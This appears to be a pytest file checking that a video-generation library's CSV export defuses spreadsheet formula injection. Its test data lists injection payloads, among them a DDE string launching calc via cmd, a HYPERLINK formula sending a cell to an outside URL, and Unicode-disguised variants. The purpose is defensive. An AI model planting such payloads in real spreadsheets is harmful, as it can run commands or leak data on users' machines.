"""A table that is handed on runs nothing in the spreadsheet that opens it."""

from __future__ import annotations

import csv
import json
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

import ipyseedance as sd
from tests.wire.conftest import KEY
from tests.wire.fal_double import serving

FORMULAS = [
    '=HYPERLINK("https://x.invalid/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1",
    "\n=1", "  =1", " \n +1", "\u00a0-1", "\u3000@x", "\u200b=1", "\ufeff=1", "\uff1d1+1", "\uff0b1", "\uff0d1",
    " \uff20x", "\ufe661", "\u22121", "\x01=1", "\tlake", "\rlake", "=", "-5", "\u202e=1",
]  # fmt: skip
HARMLESS = ["a = b", "1-1", "2026-01-01", "'quoted'", "x@y", 'a "fox" says, "hi"', "fox;-moon", "fox\n- moon", "é — 狐"]
ELSEWHERE = {
    "lake;=HYPERLINK(1)": "lake;'=HYPERLINK(1)", 'lake; "-HYPERLINK(1)"': "lake;' \"-HYPERLINK(1)\"",
    "lake\n+HYPERLINK(1)": "lake\n'+HYPERLINK(1)", "a\tb;@HYPERLINK(1)\r=c": "a\tb;'@HYPERLINK(1)\r=c",
}  # fmt: skip
NUMBERS = ("id", "seed", "duration", "width", "height", "clip_duration", "fps", "estimate", "cost", "rating")


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, list[str]]]:
    """The folder of an export of clips with those prompts, notes and tags, and the prompts in its order."""
    texts = [*FORMULAS, *HARMLESS, *ELSEWHERE]
    with serving() as fal:
        project = sd.Project(tmp_path_factory.mktemp("tables") / "=film", server=fal.url, key=KEY, budget=1000)
        jobs = [project.submit(sd.TextToVideo(text, seed=7, resolution="480p", duration=4)) for text in texts]
        for job, text in zip(jobs, texts, strict=True):
            job.result(30)
            project.judge(job, note=text, tags=["=1+1"], rating=4)
        yield project.export(jobs), texts
        project.close()


def rows(folder: Path) -> list[dict[str, str]]:
    with (folder / "clips.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def runs(cell: str) -> bool:
    """Whether some spreadsheet takes a cell for a formula and not for a number."""
    seen = "".join(letter for letter in cell if letter.isprintable()).strip()
    looks = unicodedata.normalize("NFKC", seen[:1]) in ("=", "+", "-", "@", "\u2212") or cell[:1] in "\t\r\n"
    try:
        float(cell)
    except ValueError:
        return bool(cell) and looks
    return False


def test_text_that_looks_like_a_formula_begins_with_an_apostrophe(exported: tuple[Path, list[str]]) -> None:
    folder, texts = exported
    table = rows(folder)
    asked = [row["prompt"] for row in table if row["prompt"] not in ELSEWHERE.values()]
    assert asked == [f"'{text}" if text in FORMULAS else text for text in texts if text not in ELSEWHERE]
    assert [(name, cell) for row in table for name, cell in row.items() if runs(cell)] == []


def test_a_semicolon_begins_no_formula(exported: tuple[Path, list[str]]) -> None:
    """Where the decimal sign is a comma, cells end at semicolons, and our commas are letters like others."""
    assert [row["prompt"] for row in rows(exported[0])][-len(ELSEWHERE) :] == list(ELSEWHERE.values())
    with (exported[0] / "clips.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) > len(ELSEWHERE)
    assert [cell for cell in cells if runs(cell) and "HYPERLINK" in cell] == []


def test_numbers_stay_numbers_and_nothing_stays_empty(exported: tuple[Path, list[str]]) -> None:
    folder, texts = exported
    for row in rows(folder):
        assert [float(row[name]) for name in NUMBERS]
        assert (row["rating"], row["camera_fixed"], row["sweep"], row["cell"]) == ("4", "False", "", "")
    table = pd.read_csv(folder / "clips.csv")
    assert len(table) == len(texts)
    assert all(pd.api.types.is_numeric_dtype(table[name]) for name in NUMBERS)
    assert table["camera_fixed"].dtype == bool


def test_the_other_table_has_the_exact_text(exported: tuple[Path, list[str]]) -> None:
    folder, texts = exported
    assert [row["prompt"] for row in json.loads((folder / "clips.json").read_text("utf-8"))] == texts
